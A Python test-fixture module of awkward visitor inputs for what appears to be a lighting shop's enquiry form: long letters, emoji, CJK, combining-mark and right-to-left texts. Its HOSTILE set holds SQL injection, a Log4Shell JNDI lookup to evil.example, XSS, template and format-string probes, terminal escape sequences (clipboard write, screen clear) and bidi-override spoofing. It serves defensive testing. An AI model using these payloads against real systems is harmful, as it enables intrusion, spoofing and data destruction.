"""Texts that break careless programs: very long, emoji, CJK, combining, right-to-left, and hostile ones."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

MAX_TEXT: Final = 2000


@dataclass(frozen=True)
class Oddity:
    """A visitor's name and words, and where they come from if that shows in the words."""

    name: str
    text: str
    email: str | None = None
    country: str | None = None
    city: str | None = None

    def said(self) -> dict[str, object]:
        """The lead's columns that this visitor differs in."""
        said: dict[str, object] = {"name": self.name, "text": self.text}
        if self.country is not None:
            said |= {"email": self.email, "phone": None, "country": self.country, "city": self.city}
        return said


_STORY: Final = (
    (
        "Здравствуйте! Пишу подробно, потому что по телефону всё объяснить не получилось. Мы"
        " заказали у вас освещение для"
        " всей квартиры: восемь подвесных светильников «Орион», четыре бра «Нева» и трековую систему на кухню."
    ),
    (
        "Первую часть привезли вовремя, курьер был очень вежливый, за это отдельное спасибо. Но когда электрик начал"
        " монтаж, выяснилось, что два «Ориона» отличаются по оттенку: на коробках стоит 3000 К, а светят они заметно"
        " холоднее остальных. Рядом на одной линии это очень бросается в глаза."
    ),
    (
        "По трековой системе вопрос другой. В инструкции сказано, что к одному блоку питания можно подключить до шести"
        " модулей, а менеджер при заказе говорил про восемь. Мы поставили семь, и через двадцать"
        " минут блок начинает гудеть."
        " Выключили и больше не включаем, потому что дома маленькие дети."
    ),
    (
        "С бра всё хорошо, но в одной коробке не оказалось крепёжной планки. Электрик предложил сделать самодельную, я"
        " отказалась: хочется, чтобы всё было как положено, тем более что гарантия."
    ),
    (
        "Теперь по срокам. Двадцать восьмого числа к нам приезжает фотограф снимать квартиру для журнала, и к этому дню"
        " свет должен быть готов полностью. Электрик может прийти двадцать четвёртого или двадцать"
        " пятого, потом он уезжает."
    ),
    (
        "Поэтому прошу: первое, заменить два светильника на такие же, как остальные, из одной партии. Второе, сказать"
        " точно, сколько модулей держит блок, и если шесть, то какой блок нам нужен. Третье, прислать планку."
    ),
    (
        "Фотографии я отправила на почту help@lumen.example ещё в понедельник, номер заказа в теме письма, но ответа"
        " пока не получила. Если удобнее, могу прислать видео, на нём хорошо слышно гудение."
    ),
    "Звонить лучше после семи вечера или в обед. Если не отвечу, напишите, пожалуйста, в мессенджер на этот же номер.",
    (
        "И последнее: если замена занимает больше недели, скажите честно сразу, тогда мы возьмём что-нибудь временное."
        " Я не сержусь, вещи у вас красивые, просто очень нужно успеть. Заранее спасибо за помощь и за терпение!"
    ),
)
_LETTER: Final = (
    (
        "Hello! I run a small guest house by the lake and we are replacing every lamp in the"
        " building this spring: twelve"
        " rooms, two corridors, a dining room and a terrace. I will try to be precise, so please bear with me."
    ),
    (
        "For the rooms I like the Nova table lamp in brass, but I need to know whether the switch"
        " can be moved to the cable,"
        " because our bedside tables are built into the wall and guests would not reach the base."
    ),
    (
        "For the corridors I am looking at the Halo ceiling light. The ceilings are only 2.2 m high,"
        " so the lamp may not hang"
        " lower than 15 cm, and it should work with a motion sensor that switches it fifty times a"
        " night. Does the warranty"
        " cover that kind of use?"
    ),
    (
        "The dining room has an old oak beam, six metres long. We would like five Orion pendants on"
        " it, in a row, on one"
        " dimmer. The electrician says the dimmer must be trailing edge. Is he right, and can you supply one that fits?"
    ),
    (
        "The terrace is the hard part: it is covered, but in autumn the wind brings rain from the side. Which of your"
        " outdoor lamps are IP65 or better, and do they survive minus twenty degrees in January?"
    ),
    (
        "As for delivery, we are on an island. The ferry takes pallets on Tuesdays and Fridays only,"
        " and somebody has to be"
        " at the pier to sign for them. Could your carrier call me one day ahead? My number is below."
    ),
    (
        "I would also be grateful for a quotation with and without VAT, since we are registered as a company, and for a"
        " discount if there is any for an order of about forty pieces."
    ),
    (
        "We open again on the first of May. If some of it cannot arrive before that, I would rather"
        " have the rooms complete"
        " and the terrace later. Thank you very much for reading all this, and sorry for the length!"
    ),
)


def _fill(paragraphs: tuple[str, ...]) -> str:
    # The site's form takes 2000 characters and cuts the rest, often in the middle of a word.
    text = "\n\n".join(paragraphs)
    return f"{text}\n\n{text}"[:MAX_TEXT]


LONG: Final = (
    Oddity("Маргарита Белозёрова", _fill(_STORY), "m.belozerova@mail.example", "Russia", "Saint Petersburg"),
    Oddity("Ingrid Halvorsen", _fill(_LETTER), "ingrid@guesthouse.example", "Norway", "Bergen"),
)

EMOJI: Final = (
    Oddity("Лиза 🌸", "Привет! 😊 Хочу гирлянду на балкон 🏡✨ метров 10, тёплую. Есть такие? 💛💛💛"),
    Oddity(
        "Max 🚀",
        "Love the Comet lamp ☄️ Do you ship to Spain 🇪🇸? My kids 👨‍👩‍👧‍👦 want one each 😂",
        "max@post.example",
        "Spain",
        "Valencia",
    ),
    Oddity("Кирилл", "Лампа пришла 🔥🔥🔥 но пульт не работает 😢 батарейки менял 🔋🔋 что делать? 🤷🏽‍♂️"),
)

CJK: Final = (
    Oddity(
        "山田 太郎",
        "こんにちは。ペンダントライト「オリオン」を日本へ発送できますか?送料も教えてください。",
        "taro@mail.example",
        "Japan",
        "Osaka",
    ),
    Oddity(
        "王小明",
        "你好!请问这款吊灯可以调光吗?我需要二十个,能给批发价吗?谢谢。",
        "wangxm@mail.example",
        "China",
        "Chengdu",
    ),
    Oddity(
        "김민지",
        "안녕하세요, 주문한 조명이 아직 도착하지 않았어요. 배송 조회 번호를 보내 주시겠어요?",
        "minji@mail.example",
        "South Korea",
        "Busan",
    ),
)

COMBINING: Final = (
    Oddity(
        "Nguye\u0302\u0303n Thi\u0323 Hoa",
        "Xin cha\u0300o, \u0111e\u0300n na\u0300y co\u0301 ba\u0309o ha\u0300nh kho\u0302ng?"
        " To\u0302i muo\u0302\u0301n mua hai ca\u0301i.",
        "hoa@mail.example",
        "Vietnam",
        "Hanoi",
    ),
    Oddity(
        "Андреи\u0306",
        "Здравствуи\u0306те! Какои\u0306 у вас самыи\u0306 яркии\u0306 прожектор?"
        " На саи\u0306те две модели, а описание одинаковое.",
    ),
    Oddity(
        "Z\u0351\u036b\u0343\u036aa\u0300\u0301\u0302\u0303l\u0334\u0335g\u0489o\u0361",
        "T\u0336\u0321\u034bh\u0337\u0322\u0350e\u0335\u0323\u0301 lamp f\u0334\u0331\u0308l\u0336\u032ei\u0335\u0300c"
        "\u0337\u0324k\u0334\u0301e\u0336\u0331r\u0335\u0302s at night. Is that a feature?",
    ),
)

RIGHT_TO_LEFT: Final = (
    Oddity(
        "أحمد منصور",
        "مرحبا، هل يمكن شحن المصباح Orion إلى دبي؟ أحتاج 12 قطعة قبل 15/03. شكرا جزيلا.",
        "mansour@post.example",
        "United Arab Emirates",
        "Dubai",
    ),
    Oddity(
        "נועה לוי",
        "שלום, המנורה הגיעה שבורה (הזמנה 48213). אפשר להחליף? תודה רבה!",
        "noa@post.example",
        "Israel",
        "Haifa",
    ),
    Oddity(
        "سارا احمدی",
        "سلام، قیمت چراغ رومیزی «Nova» با ارسال به تهران چقدر می‌شود؟",
        "sara@post.example",
        "Iran",
        "Tehran",
    ),
)

HOSTILE: Final = (
    Oddity(
        "[bold red]Игорь[/]",
        "[bold]СРОЧНО[/bold] перезвоните! [@click=app.quit]x[/] [link=https://evil.example]Прайс[/link]"
        " [/] скидка [50%] и ещё [b +",
    ),
    Oddity(
        "Сервис\x1b[2J\x1b[H",
        "Добрый день\x1b]52;c;cHduZWQ=\x07, подскажите цену.\x1b]0;pwned\x07 \x1b[31mКрасный"
        " текст\x1b[0m \x1b[6n\x1b[c",
    ),
    Oddity(
        "Оплата \u202e3202.fdp",
        "Счёт оплачен: \u202e000 001\u202c рублей. Ссылка:"
        " https://lum\u0435n.example/p\u200bay\u2066 (проверьте\u2069)",
    ),
    Oddity(
        "Robert'); DROP TABLE leads;--",
        "%s %n {name} {{7*7}} ${jndi:ldap://evil.example/a} <script>alert(1)</script> ' OR 1=1 -- \\x1b[0m",
    ),
    Oddity(
        "\x9b31mEve\x9b0m",
        "\x1b]8;;https://evil.example\x1b\\Нажмите сюда\x1b]8;;\x1b\\ \x1bP+q544e\x1b\\ \x9d0;title\x9c \x1b_app\x1b\\"
        " и ещё \x1b]0;без конца",
    ),
    Oddity(
        "[/]",
        "[/foo] ][ [[[ [@click=app.bell]жми[/] {'a': [1]} [red on]\r\nвторая"
        " строка\rперезапись\b\b\b\b \x07\x07\t|\x0b|\x0c|",
    ),
)
